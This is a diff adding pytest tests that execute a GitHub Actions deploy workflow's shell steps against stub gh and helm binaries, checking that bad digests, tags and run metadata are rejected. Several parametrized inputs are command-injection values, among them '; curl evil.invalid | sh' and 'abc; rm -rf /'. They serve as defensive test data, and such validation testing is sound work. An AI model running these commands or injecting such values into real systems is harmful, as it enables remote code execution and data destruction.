@@ -994,3 +994,242 @@ def test_zizmor_can_fail(tmp_path: Path) -> None:
     assert code != 0
     idents = {f["ident"] for f in findings}
     assert {"dangerous-triggers", "template-injection"} <= idents, idents
+
+
+# ---------------------------------------------------------------------------------------------
+# the deploy's shell steps, executed: untrusted input is rejected before it reaches helm
+#
+# GitHub runs `run:` steps as `bash --noprofile --norc -eo pipefail <file>`; so do these tests.
+# `gh` and `helm` cannot reach GitHub or a cluster from here: small executables stand in for
+# them, replaying a recorded API answer (gh) or recording the argv (helm).
+
+SHA = "0123456789abcdef0123456789abcdef01234567"
+GOOD_DIGEST = "sha256:" + "ab" * 32
+
+
+def _deploy_step(
+    workflows: Workflows, job_id: str, pred: Callable[[dict[str, Any]], bool]
+) -> dict[str, Any]:
+    for step in steps(jobs(workflows["deploy.yml"])[job_id]):
+        if pred(step):
+            return step
+    raise AssertionError(f"no such step in deploy.yml:{job_id}")
+
+
+def _run_step(
+    step: dict[str, Any], tmp_path: Path, env: dict[str, str], path_dir: Path | None = None
+) -> tuple[subprocess.CompletedProcess[str], dict[str, str]]:
+    script_file = tmp_path / "step.sh"
+    script_file.write_text(script(step), encoding="utf-8")
+    output = tmp_path / "github_output"
+    output.write_text("", encoding="utf-8")
+    base_path = "/usr/local/bin:/usr/bin:/bin"
+    full_env = {
+        "PATH": f"{path_dir}:{base_path}" if path_dir else base_path,
+        "HOME": str(tmp_path),
+        "GITHUB_OUTPUT": str(output),
+        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
+        "GITHUB_REPOSITORY": "Some-Owner/Sports-Analytics",
+        "RUNNER_TEMP": str(tmp_path),
+        **env,
+    }
+    proc = subprocess.run(
+        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script_file)],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env=full_env,
+    )
+    outputs = dict(
+        line.split("=", 1)
+        for line in output.read_text(encoding="utf-8").splitlines()
+        if "=" in line
+    )
+    return proc, outputs
+
+
+def _executable(path: Path, body: str) -> None:
+    path.write_text("#!/usr/bin/env bash\n" + body, encoding="utf-8")
+    path.chmod(0o755)
+
+
+@pytest.mark.parametrize(
+    ("content", "ok"),
+    [
+        (GOOD_DIGEST + "\n", True),
+        (GOOD_DIGEST, True),
+        ("sha256:" + "AB" * 32 + "\n", False),  # upper case is not a canonical digest
+        ("sha256:" + "ab" * 31 + "\n", False),
+        ("sha512:" + "ab" * 32 + "\n", False),
+        (GOOD_DIGEST + "; curl evil.invalid | sh\n", False),
+        ("latest\n", False),
+        ("", False),
+        ("\n" + GOOD_DIGEST + "\n", False),  # only the first line counts
+    ],
+)
+def test_digest_validation_rejects_bad_artifacts(
+    content: str, ok: bool, workflows: Workflows, tmp_path: Path
+) -> None:
+    step = _deploy_step(workflows, "resolve", lambda s: s.get("id") == "digest")
+    artifact = tmp_path / "digest"
+    artifact.write_text(content, encoding="utf-8")
+    proc, outputs = _run_step(step, tmp_path, {"DIGEST_FILE": str(artifact)})
+    if ok:
+        assert proc.returncode == 0, proc.stderr
+        assert outputs == {"digest": GOOD_DIGEST, "image": "ghcr.io/some-owner/sports-analytics"}
+    else:
+        assert proc.returncode != 0
+        assert "digest" not in outputs
+
+
+def test_resolve_staging_from_workflow_run(workflows: Workflows, tmp_path: Path) -> None:
+    step = _deploy_step(workflows, "resolve", lambda s: s.get("id") == "pick")
+    proc, outputs = _run_step(
+        step,
+        tmp_path,
+        {
+            "EVENT_NAME": "workflow_run",
+            "RUN_ID": "123456",
+            "RUN_SHA": SHA,
+            "TAG": "main",
+        },
+    )
+    assert proc.returncode == 0, proc.stderr
+    assert outputs == {
+        "environment": "staging",
+        "sha": SHA,
+        "run_id": "123456",
+        "tag": f"sha-{SHA}",
+    }
+
+
+@pytest.mark.parametrize("bad", [{"RUN_SHA": "abc; rm -rf /"}, {"RUN_ID": "12 34"}, {"RUN_ID": ""}])
+def test_resolve_rejects_bad_run_metadata(
+    bad: dict[str, str], workflows: Workflows, tmp_path: Path
+) -> None:
+    step = _deploy_step(workflows, "resolve", lambda s: s.get("id") == "pick")
+    env = {"EVENT_NAME": "workflow_run", "RUN_ID": "123456", "RUN_SHA": SHA, "TAG": "main", **bad}
+    proc, outputs = _run_step(step, tmp_path, env)
+    assert proc.returncode != 0
+    assert outputs == {}
+
+
+def _gh_replaying(tmp_path: Path, runs: list[dict[str, Any]]) -> Path:
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    answer = tmp_path / "runs.json"
+    answer.write_text(
+        json.dumps({"total_count": len(runs), "workflow_runs": runs}), encoding="utf-8"
+    )
+    _executable(
+        bin_dir / "gh",
+        f'[ "$1" = api ] || exit 2\necho "$2" >> "{tmp_path}/gh.log"\ncat "{answer}"\n',
+    )
+    return bin_dir
+
+
+def _run(run_id: int, number: int, branch: str, conclusion: str | None) -> dict[str, Any]:
+    return {
+        "id": run_id,
+        "run_number": number,
+        "head_branch": branch,
+        "head_sha": SHA,
+        "status": "completed" if conclusion else "in_progress",
+        "conclusion": conclusion,
+    }
+
+
+def test_resolve_production_picks_the_tag_run(workflows: Workflows, tmp_path: Path) -> None:
+    step = _deploy_step(workflows, "resolve", lambda s: s.get("id") == "pick")
+    gh = _gh_replaying(
+        tmp_path,
+        [
+            _run(901, 40, "main", "success"),  # the same commit on main: not this tag's run
+            _run(902, 41, "v1.2.3", "failure"),  # an older attempt at the tag
+            _run(903, 42, "v1.2.3", "success"),
+        ],
+    )
+    proc, outputs = _run_step(
+        step, tmp_path, {"EVENT_NAME": "push", "TAG": "v1.2.3", "GITHUB_SHA": SHA}, gh
+    )
+    assert proc.returncode == 0, proc.stderr
+    assert outputs == {"environment": "production", "sha": SHA, "run_id": "903", "tag": "1.2.3"}
+    query = (tmp_path / "gh.log").read_text(encoding="utf-8")
+    assert "workflows/ci.yml/runs" in query and f"head_sha={SHA}" in query and "event=push" in query
+
+
+def test_resolve_production_refuses_a_failed_ci_run(workflows: Workflows, tmp_path: Path) -> None:
+    step = _deploy_step(workflows, "resolve", lambda s: s.get("id") == "pick")
+    gh = _gh_replaying(tmp_path, [_run(902, 41, "v1.2.3", "failure")])
+    proc, outputs = _run_step(
+        step, tmp_path, {"EVENT_NAME": "push", "TAG": "v1.2.3", "GITHUB_SHA": SHA}, gh
+    )
+    assert proc.returncode != 0
+    assert "concluded 'failure'" in proc.stdout
+    assert outputs == {}
+
+
+@pytest.mark.parametrize("tag", ["main", "v1", "v1.2.3;id", "release-1.2.3"])
+def test_resolve_production_refuses_non_semver_tags(
+    tag: str, workflows: Workflows, tmp_path: Path
+) -> None:
+    step = _deploy_step(workflows, "resolve", lambda s: s.get("id") == "pick")
+    gh = _gh_replaying(tmp_path, [_run(903, 42, tag, "success")])
+    proc, outputs = _run_step(
+        step, tmp_path, {"EVENT_NAME": "push", "TAG": tag, "GITHUB_SHA": SHA}, gh
+    )
+    assert proc.returncode != 0
+    assert outputs == {}
+    assert not (tmp_path / "gh.log").exists(), "the tag must be validated before any API call"
+
+
+def _helm_recording(tmp_path: Path) -> Path:
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    _executable(bin_dir / "helm", f'printf "%s\\n" "$*" >> "{tmp_path}/helm.log"\n')
+    return bin_dir
+
+
+def _helm_env(tmp_path: Path, **overrides: str) -> dict[str, str]:
+    return {
+        "RELEASE": "sports-analytics",
+        "NAMESPACE": "sports-analytics",
+        "CHART": CHART_PATH,
+        "IMAGE": "ghcr.io/some-owner/sports-analytics",
+        "DIGEST": GOOD_DIGEST,
+        "IMAGE_TAG": "1.2.3",
+        "VALUES_FILE": "",
+        **overrides,
+    }
+
+
+def test_helm_upgrade_command(workflows: Workflows, tmp_path: Path) -> None:
+    step = _deploy_step(workflows, "deploy", lambda s: "helm upgrade" in script(s))
+    proc, _ = _run_step(step, tmp_path, _helm_env(tmp_path), _helm_recording(tmp_path))
+    assert proc.returncode == 0, proc.stderr
+    argv = (tmp_path / "helm.log").read_text(encoding="utf-8").split()
+    assert argv[:4] == ["upgrade", "--install", "sports-analytics", CHART_PATH]
+    for flag in ("--atomic", "--wait", "--create-namespace"):
+        assert flag in argv
+    assert argv[argv.index("--timeout") + 1] == "10m"
+    assert f"image.digest={GOOD_DIGEST}" in argv
+    assert "image.tag=1.2.3" in argv
+    assert f"{tmp_path}/values-secret.yaml" in argv
+
+
+@pytest.mark.parametrize(
+    "bad",
+    [
+        {"DIGEST": "sha256:abc"},
+        {"DIGEST": ""},
+        {"IMAGE_TAG": "latest"},
+        {"IMAGE_TAG": "1.2.3 --set x=y"},
+    ],
+)
+def test_helm_upgrade_never_runs_with_bad_input(
+    bad: dict[str, str], workflows: Workflows, tmp_path: Path
+) -> None:
+    step = _deploy_step(workflows, "deploy", lambda s: "helm upgrade" in script(s))
+    proc, _ = _run_step(step, tmp_path, _helm_env(tmp_path, **bad), _helm_recording(tmp_path))
+    assert proc.returncode != 0
+    assert not (tmp_path / "helm.log").exists()
